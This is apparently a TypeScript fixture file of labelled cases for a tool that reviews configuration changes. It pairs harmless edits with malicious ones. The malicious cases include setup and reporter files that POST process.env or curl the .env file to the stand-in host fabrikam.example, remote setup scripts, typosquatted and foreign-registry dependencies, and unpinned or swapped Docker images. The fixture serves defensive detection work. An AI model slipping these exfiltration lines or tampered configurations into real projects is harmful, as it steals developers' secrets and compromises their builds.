import { type Case, type Edit, harmful, harmless } from "./case.ts";
import { sampleProject } from "./sample-lock.ts";

const edit = (file: string, find: string, replace: string): Edit => ({ file, find, replace });
const bad = (title: string, base: readonly Edit[], edits: Edit | readonly Edit[]) =>
  harmful({ title, class: "loaded by configuration", base, edits, findings: [{ id: "file/pipeline", about: "" }] });
const daily = (title: string, file: string, base: readonly Edit[], edits: Edit | readonly Edit[]) =>
  harmless(title, edits, { class: "loads what is quiet", base, verdict: "to be read", read: [file] });

const vitest = "vitest.config.ts";
const vitestText =
  'import { defineConfig } from "vitest/config";\n\nexport default defineConfig({\n  test: { testTimeout: 10_000, include: ["test/**/*.test.ts"] },\n});\n';
const vitestBase: readonly Edit[] = [...sampleProject, { file: vitest, text: vitestText }];
const inVitest = (text: string) => edit(vitest, "testTimeout: 10_000,", `testTimeout: 10_000, ${text},`);
const sends = 'await fetch("https://fabrikam.example", { method: "POST", body: JSON.stringify(process.env) });\n';
const downloads =
  'import { execSync } from "node:child_process";\nexecSync("curl -s https://fabrikam.example -d @.env");\n';
const jest = "jest.config.js";
const jestBase: readonly Edit[] = [{ file: jest, text: "module.exports = { testTimeout: 1000 };\n" }];
const inJest = (text: string) => edit(jest, "testTimeout: 1000", `testTimeout: 1000, ${text}`);
const image = `node:24@sha256:${"a".repeat(64)}`;
const docker: readonly Edit[] = [{ file: "Dockerfile", text: `FROM ${image}\nRUN npm ci\n` }];
const renovate: readonly Edit[] = [
  { file: "renovate.json", text: '{ "extends": ["config:recommended"], "minimumReleaseAge": "7 days" }\n' },
];
const yarn: readonly Edit[] = [
  {
    file: "yarn.lock",
    text: 'zod@4.6.6:\n  version "4.6.6"\n  resolved "https://registry.yarnpkg.com/zod/-/zod-4.6.6.tgz#aaa"\n',
  },
];
const site = "site/.vitepress/config.ts";
const page = "export default defineConfig({";

/** Configurations of tools that load or show somebody else's code, and those whose code is there to be judged. */
export const loadedCode: readonly Case[] = [
  bad("every test begins with an address", vitestBase, inVitest('setupFiles: ["https://fabrikam.example/a.mjs"]')),
  bad("the test run begins with a package that nobody installed", vitestBase, inVitest('globalSetup: ["@fabrikam/a"]')),
  bad("a setup outside of the tests sends the environment", vitestBase, [
    inVitest('globalSetup: "./support/global.ts"'),
    { file: "support/global.ts", text: sends },
  ]),
  bad("a setup that looks like a page sends the environment", vitestBase, [
    inVitest('setupFiles: "docs/setup.txt.ts"'),
    { file: "docs/setup.txt.ts", text: sends },
  ]),
  bad("a quiet setup loads what downloads", vitestBase, [
    inVitest('setupFiles: ["./support/setup.ts"]'),
    { file: "support/setup.ts", text: 'import "./more.ts";\n' },
    { file: "support/more.ts", text: downloads },
  ]),
  bad("a reporter of the tests sends the environment", vitestBase, [
    inVitest('reporters: ["default", "./support/report.ts"]'),
    { file: "support/report.ts", text: `export default class {\n  async onFinished() {\n    ${sends}  }\n}\n` },
  ]),
  bad("the tests' configuration loads a plugin that nobody installed", vitestBase, [
    edit(vitest, "import { defineConfig }", 'import plugin from "@fabrikam/plugin";\nimport { defineConfig }'),
    edit(vitest, "  test:", "  plugins: [plugin()],\n  test:"),
  ]),
  bad(
    "coverage is counted by a package that nobody installed",
    vitestBase,
    inVitest('coverage: { provider: "custom", customProviderModule: "@fabrikam/coverage" }'),
  ),
  bad("jest takes a preset that nobody installed", jestBase, inJest('preset: "@fabrikam/jest"')),
  bad("jest's transform reaches another machine", jestBase, [
    inJest(String.raw`transform: { "\\.ts$": "./support/transform.js" }`),
    { file: "support/transform.js", text: 'require("https").get("https://fabrikam.example");\n' },
  ]),
  bad(
    "Playwright begins with a setup that sends",
    [{ file: "playwright.config.ts", text: 'export default { testDir: "e2e" };\n' }],
    [
      edit("playwright.config.ts", '"e2e"', '"e2e", globalSetup: "./e2e/setup.ts"'),
      { file: "e2e/setup.ts", text: sends },
    ],
  ),
  bad(
    "the site shows somebody's script",
    [],
    edit(site, page, `${page}\n  head: [["script", { src: "//x.example" }]],`),
  ),
  bad("the image builds on somebody's", docker, edit("Dockerfile", image, `fabrikam/${image}`)),
  bad("the image takes a program from somebody's", docker, {
    file: "Dockerfile",
    find: "RUN npm ci",
    replace: "COPY --from=fabrikam/tools:1 /bin/x /bin/x\nRUN npm ci",
  }),
  bad("the image loses its digest", docker, edit("Dockerfile", image, "node:24")),
  bad(
    "updates are merged by themselves",
    renovate,
    edit("renovate.json", '"minimumReleaseAge"', '"automerge": true, "minimumReleaseAge"'),
  ),
  bad("updates no longer wait a week", renovate, edit("renovate.json", ', "minimumReleaseAge": "7 days"', "")),
  bad("pnpm changes what it installs", [], {
    file: ".pnpmfile.cjs",
    text: 'module.exports = { hooks: { readPackage: (p) => ({ ...p, dependencies: { zod: "npm:zodd@1" } }) } };\n',
  }),
  bad("yarn's packages come from elsewhere", yarn, edit("yarn.lock", "registry.yarnpkg.com", "npm.fabrikam.example")),

  daily("a setup restores what tests replaced", "support/setup.ts", vitestBase, [
    inVitest('setupFiles: ["./support/setup.ts"]'),
    {
      file: "support/setup.ts",
      text: 'import { afterEach, vi } from "vitest";\n\nafterEach(() => {\n  vi.restoreAllMocks();\n});\n',
    },
  ]),
  daily("the test run begins with a server of its own", "test/server.ts", vitestBase, [
    inVitest('globalSetup: ["test/server.ts"]'),
    {
      file: "test/server.ts",
      text: 'import { createServer } from "node:http";\n\nexport default () => {\n  const server = createServer((_, answer) => answer.end("ok")).listen(0, "127.0.0.1");\n  return () => server.close();\n};\n',
    },
  ]),
  daily(
    "the compiler's settings have a base of their own",
    "tsconfig.json",
    [],
    [
      edit("tsconfig.json", '{\n  "compilerOptions"', '{\n  "extends": "./tsconfig.base.json",\n  "compilerOptions"'),
      { file: "tsconfig.base.json", text: '{ "compilerOptions": { "strict": true } }\n' },
    ],
  ),
  daily("tests have a report for machines", vitest, vitestBase, inVitest('reporters: ["default", "junit"]')),
  daily("the image is a newer one", "Dockerfile", docker, edit("Dockerfile", "a".repeat(64), "b".repeat(64))),
  daily("updates come before work", "renovate.json", renovate, {
    file: "renovate.json",
    find: '"7 days"',
    replace: '"7 days", "schedule": ["before 5am on monday"]',
  }),
  daily("yarn has a newer package", "yarn.lock", yarn, edit("yarn.lock", "zod-4.6.6.tgz#aaa", "zod-4.6.7.tgz#bbb")),
];
